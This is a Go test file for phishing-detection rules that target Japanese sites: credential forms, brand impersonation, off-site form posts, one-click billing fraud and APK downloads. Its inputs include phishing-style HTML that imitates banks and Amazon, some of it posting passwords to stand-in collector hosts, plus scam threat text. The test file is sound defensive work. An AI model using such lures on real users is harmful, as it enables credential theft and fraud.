@@ -1,0 +1,436 @@
+package rules
+
+import (
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/net/publicsuffix"
+)
+
+// phPage reads a fixture page under testdata/phishing as served from pageURL.
+func phPage(t *testing.T, file, pageURL string) *Page {
+	t.Helper()
+	b, err := os.ReadFile(filepath.Join("..", "testdata", "phishing", file))
+	if err != nil {
+		t.Fatalf("reading fixture: %v", err)
+	}
+	return NewPage(pageURL, 200, "text/html; charset=utf-8", string(b), false)
+}
+
+// phHTML makes a page from inline HTML.
+func phHTML(pageURL, body string) *Page {
+	return NewPage(pageURL, 200, "text/html; charset=utf-8", body, false)
+}
+
+// phSite builds a Site whose URL, Host and Domain are the first page's.
+func phSite(pages ...*Page) *Site {
+	s := &Site{Data: DefaultData(), Now: time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC), Pages: pages}
+	if len(pages) > 0 {
+		phSetURL(s, pages[0].URL)
+	}
+	return s
+}
+
+func phSetURL(s *Site, raw string) {
+	u, _ := url.Parse(raw)
+	s.URL = raw
+	s.Host = strings.ToLower(u.Hostname())
+	s.ASCIIHost = s.Host
+	s.Domain, _ = publicsuffix.EffectiveTLDPlusOne(s.Host)
+}
+
+// phFired runs the phishing rules over site and returns their signs by id.
+func phFired(site *Site) map[string]Sign {
+	out := map[string]Sign{}
+	for _, s := range Evaluate(site, phishingRules(), "ja") {
+		out[s.ID] = s
+	}
+	return out
+}
+
+var phIDs = []string{"phishing-credential-form", "phishing-brand-impersonation", "form-posts-offsite", "oneclick-billing", "download-app"}
+
+// phExpect checks that exactly the ids in want fire among this file's signs.
+func phExpect(t *testing.T, got map[string]Sign, want ...string) {
+	t.Helper()
+	for _, id := range phIDs {
+		s, ok := got[id]
+		w := phishHas(want, id)
+		if ok && !w {
+			t.Errorf("%s fired, want clean: evidence %q", id, s.Evidence)
+		}
+		if !ok && w {
+			t.Errorf("%s did not fire", id)
+		}
+	}
+}
+
+func TestPhishingFixtures(t *testing.T) {
+	type pg struct{ file, url string }
+	cases := []struct {
+		name  string
+		pages []pg
+		ips   []string
+		want  []string
+	}{
+		{"kit login imitating Vpass", []pg{{"vpass-kit/login.html", "https://vpass.smbc-card-jp.com/login/"}}, nil,
+			[]string{"phishing-credential-form", "phishing-brand-impersonation"}},
+		{"kit card page posting elsewhere", []pg{{"vpass-kit/card.html", "https://vpass.smbc-card-jp.com/login/card.html"}}, nil,
+			[]string{"phishing-credential-form", "phishing-brand-impersonation", "form-posts-offsite"}},
+		{"genuine Vpass login", []pg{{"vpass-genuine/login.html", "https://www.vpass.ne.jp/login/"}}, nil, nil},
+		{"one-click billing page", []pg{{"oneclick/index.html", "http://adult-douga-kaiin.example.top/touroku/"}}, []string{"203.0.113.45"},
+			[]string{"oneclick-billing"}},
+		{"police page explaining one-click fraud", []pg{{"oneclick-warning/index.html", "https://www.police.example.jp/cyber/oneclick.html"}}, []string{"203.0.113.45"}, nil},
+		{"delivery smishing page with APK", []pg{{"sagawa-smishing/index.html", "http://sagawa-exp.example-delivery.cn/"}}, nil,
+			[]string{"download-app", "phishing-brand-impersonation", "phishing-credential-form"}},
+		{"shop selling Apple products", []pg{{"shop-apple/index.html", "https://caseshop.example.jp/"}, {"shop-apple/checkout.html", "https://caseshop.example.jp/checkout"}}, nil, nil},
+		{"news article naming banks", []pg{{"news-banks/index.html", "https://news.example.jp/articles/123"}}, nil, nil},
+		{"city warning about a bank's phishing", []pg{{"bank-warning/index.html", "https://www.city.example.lg.jp/bousai/phishing.html"}}, nil, nil},
+		{"honest paid membership completion", []pg{{"shop-membership/complete.html", "https://school.example.jp/join/complete"}}, nil, nil},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			var pages []*Page
+			for _, p := range c.pages {
+				pages = append(pages, phPage(t, p.file, p.url))
+			}
+			site := phSite(pages...)
+			site.ClientIPs = c.ips
+			phExpect(t, phFired(site), c.want...)
+		})
+	}
+}
+
+func TestOneclickEchoesOwnIP(t *testing.T) {
+	site := phSite(phPage(t, "oneclick/index.html", "http://adult-douga-kaiin.example.top/touroku/"))
+	site.ClientIPs = []string{"203.0.113.45"}
+	s, ok := phFired(site)["oneclick-billing"]
+	if !ok {
+		t.Fatal("oneclick-billing did not fire")
+	}
+	if !strings.Contains(s.Evidence, "own IP 203.0.113.45") || !strings.Contains(s.Message, "203.0.113.45") {
+		t.Errorf("own IP not noted: evidence %q message %q", s.Evidence, s.Message)
+	}
+	site.ClientIPs = []string{"198.51.100.9"}
+	s = phFired(site)["oneclick-billing"]
+	if strings.Contains(s.Evidence, "own IP") {
+		t.Errorf("another address taken for the checker's own: %q", s.Evidence)
+	}
+}
+
+func TestGenuinePageWithHostOnlySite(t *testing.T) {
+	// A saved copy of the genuine page, scored with the site's host set to
+	// the brand's domain (as for a capture taken from vpass.ne.jp).
+	p := phPage(t, "vpass-genuine/login.html", "file:///evidence/login.html")
+	site := &Site{Host: "vpass.ne.jp", ASCIIHost: "vpass.ne.jp", Domain: "vpass.ne.jp", URL: "https://vpass.ne.jp/", Pages: []*Page{p}, Data: DefaultData()}
+	phExpect(t, phFired(site))
+	// The same bytes on another host are an impersonation.
+	site = &Site{Host: "vpass-ne-jp.example.cn", ASCIIHost: "vpass-ne-jp.example.cn", Domain: "example.cn", Pages: []*Page{p}, Data: DefaultData()}
+	phExpect(t, phFired(site), "phishing-credential-form", "phishing-brand-impersonation", "form-posts-offsite")
+}
+
+const phHead = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>%s</title></head><body>%s</body></html>`
+
+func phDoc(title, body string) string {
+	return strings.Replace(strings.Replace(phHead, "%s", title, 1), "%s", body, 1)
+}
+
+func TestCredentialForm(t *testing.T) {
+	cases := []struct {
+		name, url, title, body string
+		want                   bool
+	}{
+		{"second PIN without any brand", "https://secure-check.example.com/", "本人確認",
+			`<form method="post"><label for=a>第二暗証番号</label><input id=a type=password name=p2></form>`, true},
+		{"security number table", "https://secure-check.example.com/", "確認",
+			`<form method="post">乱数表の数字 <input name=r1> <input name=r2></form>`, true},
+		{"account number with date of birth", "https://kakunin.example.net/", "お客様情報",
+			`<form method="post"><label>口座番号 <input name=kouza_no></label><label>生年月日 <input name=dob></label></form>`, true},
+		{"card number with ATM PIN", "https://pay-check.example.net/", "確認",
+			`<form method="post"><label>カード番号<input name=cardNumber></label><label>暗証番号<input type=password name=pin></label></form>`, true},
+		{"cash card PIN", "https://pay-check.example.net/", "確認",
+			`<form method="post"><label>キャッシュカードの暗証番号<input type=password name=x></label></form>`, true},
+		{"inputs outside any form", "https://secure-check.example.com/", "確認",
+			`<div>第二暗証番号 <input type=password name=a></div>`, true},
+		{"brand presented: Amazon sign-in off its domains", "https://amazon-co-jp.account-verify.cn/ap/signin", "Amazon.co.jp: サインイン",
+			`<form method="post"><input type=email name=email><input type=password name=password></form>`, true},
+		{"brand presented by logo on a bare login title", "https://secure.aeon-kakunin.top/", "ログイン",
+			`<img src="/img/logo.png" alt="イオンカード"><form method="post"><label>カード番号<input name=card_no></label><label>有効期限<input name=exp></label></form>`, true},
+		{"free hosting under a shared domain", "https://smbc-card.github.io/vpass/", "三井住友カード 会員ログイン",
+			`<form method="post" action="x"><input name=id><input type=password name=pw></form>`, true},
+
+		{"honest card checkout", "https://shop.example.jp/checkout", "お支払い | 例示ショップ",
+			`<img src="/img/visa.png" alt="VISA"><img src="/img/logo_jcb.png" alt="JCB"><form method="post"><input name=cc autocomplete=cc-number><input name=exp autocomplete=cc-exp><input name=csc autocomplete=cc-csc></form>`, false},
+		{"plain shop login", "https://shop.example.jp/login", "ログイン | 例示ショップ",
+			`<form method="post"><input type=email name=email><input type=password name=password autocomplete=current-password></form>`, false},
+		{"membership number and PIN on an old site", "https://ticket.example.jp/login", "会員ログイン | 例示チケット",
+			`<form method="post"><label>会員番号<input name=member></label><label>暗証番号（4桁）<input type=password name=pin></label></form>`, false},
+		{"postal code field named pincode", "https://shop.example.jp/address", "お届け先 | 例示ショップ",
+			`<form method="post"><label>郵便番号<input name=pincode></label><label>住所<input name=addr></label></form>`, false},
+		{"shipping field is not a PIN", "https://shop.example.jp/address", "お届け先 | 例示ショップ",
+			`<form method="post"><input name=shipping_name><input name=cardNumber placeholder="カード番号"></form>`, false},
+		{"Sign in with Apple on a shop", "https://shop.example.jp/login", "ログイン | 例示ショップ",
+			`<p><a href="/oauth/apple">Appleでサインイン</a></p><form method="post"><input type=email name=email><input type=password name=password></form>`, false},
+		{"bank's own page asking for the table", "https://direct.smbc.co.jp/aib/", "SMBCダイレクト",
+			`<form method="post"><label>乱数表<input name=r></label><label>第二暗証<input type=password name=p></label></form>`, false},
+		{"Amazon's own sign-in", "https://www.amazon.co.jp/ap/signin", "Amazon.co.jp: サインイン",
+			`<form method="post"><input type=email name=email><input type=password name=password></form>`, false},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			site := phSite(phHTML(c.url, phDoc(c.title, c.body)))
+			s, got := phFired(site)["phishing-credential-form"]
+			if got != c.want {
+				t.Errorf("fired = %v, want %v (evidence %q)", got, c.want, s.Evidence)
+			}
+		})
+	}
+}
+
+func TestBrandImpersonation(t *testing.T) {
+	cases := []struct {
+		name, url, title, body string
+		want                   bool
+		points                 int
+	}{
+		{"Apple ID sign-in off apple.com", "https://appleid-verify.example.com/", "Apple ID - サインイン",
+			`<form method="post"><input name=appleid><input type=password name=pw></form>`, true, 40},
+		{"login heading naming the brand", "https://mufg-login.example.top/", "ログイン",
+			`<h2>三菱UFJダイレクト ログイン</h2><form method="post"><input name=id><input type=password name=pw></form>`, true, 40},
+		{"Sign in to the brand on a button", "https://signin.example.top/", "Sign in",
+			`<p>Sign in to PayPay</p><form method="post"><input name=tel><input type=password name=pw></form>`, true, 40},
+		{"copyright line only", "https://smcc-info.example.net/", "お知らせ",
+			`<p>新しいサービスのご案内です。</p><p>© 2024 Sumitomo Mitsui Card Co., Ltd. All Rights Reserved.</p>`, true, 20},
+		{"h1 brand with verification title", "https://eki-net.example.cn/", "本人確認",
+			`<h1>えきねっと</h1><p>ご登録情報の確認をお願いします。</p>`, true, 40},
+
+		{"brand's own domain", "https://www.smbc-card.com/mem/login", "三井住友カード 会員ログイン",
+			`<form method="post"><input name=id><input type=password name=pw></form>`, false, 0},
+		{"brand name as h1 without login", "https://fan.example.jp/amazon", "Amazonセール情報まとめ | 例示ブログ",
+			`<h1>Amazon</h1><p>今日のおすすめ。</p>`, false, 0},
+		{"shop title naming products, with login", "https://case.example.jp/", "iPhone 15 ケース | Apple対応アクセサリー 例示ケース",
+			`<h1>Apple製品対応アクセサリー</h1><img src="/logo-apple.png" alt="Apple logo"><form method="post"><input type=email name=e><input type=password name=p></form>`, false, 0},
+		{"federated login buttons", "https://shop.example.jp/login", "ログイン | 例示ショップ",
+			`<p>LINEでログイン</p><p>Yahoo! JAPAN IDでログイン</p><p>Sign in with Apple</p><form method="post"><input type=email name=e><input type=password name=p></form>`, false, 0},
+		{"copyright of another company naming the brand", "https://case.example.jp/", "例示ケース",
+			`<p>© 2024 Apple Case Shop</p>`, false, 0},
+		{"warning page naming a bank", "https://www.example.lg.jp/", "みずほ銀行をかたるフィッシングにご注意",
+			`<h1>みずほ銀行をかたるフィッシングにご注意</h1><h2>みずほダイレクト ログイン画面の偽サイト</h2>`, false, 0},
+		{"a brand's site naming another brand", "https://www.smbc-card.com/", "Visaのタッチ決済 | 三井住友カード",
+			`<h1>Visa</h1><form method="post"><input name=id><input type=password name=pw></form>`, false, 0},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			site := phSite(phHTML(c.url, phDoc(c.title, c.body)))
+			s, got := phFired(site)["phishing-brand-impersonation"]
+			if got != c.want {
+				t.Fatalf("fired = %v, want %v (evidence %q)", got, c.want, s.Evidence)
+			}
+			if got && s.Points != c.points {
+				t.Errorf("points = %d, want %d (evidence %q)", s.Points, c.points, s.Evidence)
+			}
+		})
+	}
+}
+
+func TestFormPostsOffsite(t *testing.T) {
+	cases := []struct {
+		name, url, body string
+		want            bool
+	}{
+		{"login posted to another domain", "https://shop.example.jp/login",
+			`<form method="post" action="https://collector.example.cn/p.php"><input type=email name=e><input type=password name=p></form>`, true},
+		{"GET form with several typed fields elsewhere", "https://shop.example.jp/",
+			`<form action="https://collector.example.cn/g"><input name=name><input name=tel></form>`, true},
+		{"password to a form service", "https://shop.example.jp/",
+			`<form method="post" action="https://formspree.io/f/abc"><input name=id><input type=password name=p></form>`, true},
+
+		{"site search on Google", "https://news.example.jp/",
+			`<form action="https://www.google.com/search"><input name=q><input type=hidden name=sitesearch value=news.example.jp></form>`, false},
+		{"card data to a payment gateway", "https://shop.example.jp/checkout",
+			`<form method="post" action="https://pt01.mul-pay.jp/payment/Entry"><input name=card autocomplete=cc-number><input name=csc autocomplete=cc-csc></form>`, false},
+		{"newsletter to Mailchimp", "https://shop.example.jp/",
+			`<form method="post" action="https://x.us21.list-manage.com/subscribe/post"><input type=email name=EMAIL><input name=FNAME></form>`, false},
+		{"another subdomain of the same site", "https://www.shop.example.jp/",
+			`<form method="post" action="https://secure.shop.example.jp/login"><input name=id><input type=password name=p></form>`, false},
+		{"between a brand's official domains", "https://www.vpass.ne.jp/login/",
+			`<form method="post" action="https://www.smbc-card.com/memx/login"><input name=id><input type=password name=p></form>`, false},
+		{"nothing to type", "https://shop.example.jp/",
+			`<form method="post" action="https://other.example.com/like"><input type=hidden name=id value=1><button>いいね</button></form>`, false},
+		{"relative action", "https://shop.example.jp/",
+			`<form method="post" action="/login"><input name=id><input type=password name=p></form>`, false},
+		{"mailto action", "https://shop.example.jp/",
+			`<form method="post" action="mailto:info@example.com"><input name=name><textarea name=body></textarea></form>`, false},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			site := phSite(phHTML(c.url, phDoc("例示", c.body)))
+			s, got := phFired(site)["form-posts-offsite"]
+			if got != c.want {
+				t.Errorf("fired = %v, want %v (evidence %q)", got, c.want, s.Evidence)
+			}
+		})
+	}
+}
+
+func TestOneclickBilling(t *testing.T) {
+	cases := []struct {
+		name, title, body string
+		ips               []string
+		want              bool
+	}{
+		{"registration, fee and mistake bait", "登録完了",
+			`<p>会員登録が完了しました。</p><p>料金：¥98,000</p><p><a href="tel:0000">誤って登録された方はこちら</a></p>`, nil, true},
+		{"registration, fee in man-yen and threat", "入会完了",
+			`<p>ご入会ありがとうございます。</p><p>ご請求金額 9万8千円</p><p>お支払いがない場合は勤務先にご連絡します。</p>`, nil, true},
+		{"registration, echo and threat without a fee", "本登録",
+			`<p>本登録が完了しました。</p><p>あなたの個体識別番号を記録しました。</p><p>放置された場合、法的手続きを取ります。</p>`, nil, true},
+		{"visitor's own IP with nothing around it", "完了",
+			`<p>登録完了</p><p>お支払い金額 50,000円</p><p>203.0.113.7</p>`, []string{"203.0.113.7"}, true},
+		{"fee label in the cell before", "登録完了",
+			`<p>登録が完了しました</p><table><tr><td>ご利用料金</td><td>150,000円</td></tr></table><p>延滞された場合は遅延損害金を請求します</p>`, nil, true},
+
+		{"registration, fee and plain deadline", "会員登録完了",
+			`<p>会員登録が完了しました。</p><p>年会費 11,000円</p><p>7日以内にお振込みください。</p><p>退会をご希望の方はマイページから。</p>`, nil, false},
+		{"small fee with bait", "登録完了",
+			`<p>登録完了</p><p>月額料金 550円</p><p>誤って登録された方は解約してください。</p>`, nil, false},
+		{"no registration claim", "お支払い",
+			`<p>料金 99,000円</p><p>延滞すると法的手続き</p><p>IPアドレス 203.0.113.7</p>`, nil, false},
+		{"explanation without a warning title", "よくある質問",
+			`<p>「登録完了 料金99,000円 IPアドレス取得済み 3日以内に支払わないと法的手続き」という画面が出ても支払う必要はありません。</p><p>連絡しないでください。消費生活センターに相談を。</p>`, nil, false},
+		{"scam claiming not to be a scam still fires", "ご入会ありがとうございます",
+			`<p>ご入会ありがとうございます</p><p>料金 80,000円</p><p>これは架空請求ではありません。</p><p>延滞金が発生します</p>`, nil, true},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			site := phSite(phHTML("http://oc.example.top/", phDoc(c.title, c.body)))
+			site.ClientIPs = c.ips
+			s, got := phFired(site)["oneclick-billing"]
+			if got != c.want {
+				t.Errorf("fired = %v, want %v (evidence %q)", got, c.want, s.Evidence)
+			}
+		})
+	}
+}
+
+func TestDownloadApp(t *testing.T) {
+	cases := []struct {
+		name      string
+		url       string
+		redirects []string
+		page      *Page
+		want      bool
+		points    int
+	}{
+		{"target is an APK, nothing read", "http://dl.example.cn/sagawa.apk", nil, nil, true, 30},
+		{"redirect to an APK", "http://dl.example.cn/", []string{"http://short.example/x", "http://dl.example.cn/app/yamato.APK"}, nil, true, 30},
+		{"APK served without extension", "http://dl.example.cn/get",
+			nil, NewPage("http://dl.example.cn/get", 200, "application/vnd.android.package-archive", "", false), true, 30},
+		{"executable as octet-stream", "http://dl.example.cn/file",
+			nil, NewPage("http://dl.example.cn/update.exe", 200, "application/octet-stream", "MZ", false), true, 30},
+		{"link to an APK", "http://smish.example.cn/", nil,
+			phHTML("http://smish.example.cn/", phDoc("佐川急便", `<a href="/app.apk">ダウンロード</a>`)), true, 30},
+		{"APK in a query parameter", "http://smish.example.cn/", nil,
+			phHTML("http://smish.example.cn/", phDoc("x", `<a href="/download.php?file=app.apk">ダウンロード</a>`)), true, 30},
+		{"configuration profile", "http://smish.example.cn/", nil,
+			phHTML("http://smish.example.cn/", phDoc("x", `<a href="/ios.mobileconfig">iPhoneの方</a>`)), true, 30},
+		{"page starting the download from a script", "http://smish.example.cn/", nil,
+			phHTML("http://smish.example.cn/", phDoc("x", `<script>window.location.href='/files/kuroneko.apk';</script>`)), true, 30},
+		{"meta refresh to an APK", "http://smish.example.cn/", nil,
+			phHTML("http://smish.example.cn/", `<html><head><meta http-equiv="refresh" content="0;url=/a.apk"></head><body></body></html>`), true, 30},
+		{"link to a desktop installer", "https://soft.example.jp/", nil,
+			phHTML("https://soft.example.jp/", phDoc("x", `<a href="/setup.exe">Windows版</a>`)), true, 15},
+
+		{"app store links", "https://shop.example.jp/", nil,
+			phHTML("https://shop.example.jp/", phDoc("x", `<a href="https://play.google.com/store/apps/details?id=jp.example">Google Play</a><a href="https://apps.apple.com/jp/app/id1">App Store</a>`)), false, 0},
+		{"documents and archives", "https://shop.example.jp/", nil,
+			phHTML("https://shop.example.jp/", phDoc("x", `<a href="/catalog.pdf">カタログ</a><a href="/manual.zip">説明書</a><img src="/apk.png">`)), false, 0},
+		{"word apk in a path segment", "https://shop.example.jp/apk/guide", nil,
+			phHTML("https://shop.example.jp/apk/guide", phDoc("x", `<a href="/apk/">APKとは</a>`)), false, 0},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			site := &Site{Data: DefaultData()}
+			phSetURL(site, c.url)
+			site.Redirects = c.redirects
+			if c.page != nil {
+				site.Pages = []*Page{c.page}
+			}
+			s, got := phFired(site)["download-app"]
+			if got != c.want {
+				t.Fatalf("fired = %v, want %v (evidence %q)", got, c.want, s.Evidence)
+			}
+			if got && s.Points != c.points {
+				t.Errorf("points = %d, want %d (evidence %q)", s.Points, c.points, s.Evidence)
+			}
+		})
+	}
+}
+
+func TestPhishingRulesAreWellFormed(t *testing.T) {
+	seen := map[string]bool{}
+	for _, r := range phishingRules() {
+		if seen[r.ID] {
+			t.Errorf("duplicate id %s", r.ID)
+		}
+		seen[r.ID] = true
+		if r.Check == nil || r.Topic == "" || r.Summary.JA == "" || r.Summary.EN == "" || r.Message.JA == "" || r.Message.EN == "" {
+			t.Errorf("%s: incomplete rule", r.ID)
+		}
+	}
+	for _, id := range phIDs {
+		if !seen[id] {
+			t.Errorf("rule %s missing", id)
+		}
+	}
+}
+
+// Hostile pages (no title, a huge form, nesting too deep for the parser)
+// must not panic or fire by accident.
+func TestPhishingHostilePage(t *testing.T) {
+	var b strings.Builder
+	b.WriteString("<form method=post action='https://x.example.cn/'>")
+	for i := 0; i < 2000; i++ {
+		b.WriteString("<div><input name=f")
+		b.WriteString(strings.Repeat("a", i%7))
+		b.WriteString("></div>")
+	}
+	site := phSite(phHTML("https://hostile.example.com/", b.String()))
+	phExpect(t, phFired(site), "form-posts-offsite")
+
+	b.Reset()
+	b.WriteString("<title>Amazon ログイン</title><form method=post action='https://x.example.cn/'>")
+	for i := 0; i < 3000; i++ {
+		b.WriteString("<div><input type=password name=p>")
+	}
+	site = phSite(phHTML("https://hostile.example.com/", b.String()))
+	phExpect(t, phFired(site))
+}
+
+func BenchmarkPhishingRules(b *testing.B) {
+	var pages []*Page
+	for _, f := range []struct{ file, url string }{
+		{"vpass-kit/login.html", "https://vpass.smbc-card-jp.com/login/"},
+		{"vpass-kit/card.html", "https://vpass.smbc-card-jp.com/login/card.html"},
+		{"oneclick/index.html", "http://adult-douga-kaiin.example.top/"},
+		{"shop-apple/index.html", "https://caseshop.example.jp/"},
+		{"news-banks/index.html", "https://news.example.jp/"},
+	} {
+		raw, err := os.ReadFile(filepath.Join("..", "testdata", "phishing", f.file))
+		if err != nil {
+			b.Fatal(err)
+		}
+		pages = append(pages, NewPage(f.url, 200, "text/html", string(raw), false))
+	}
+	rs := phishingRules()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		for _, p := range pages {
+			Evaluate(phSite(p), rs, "ja")
+		}
+	}
+}
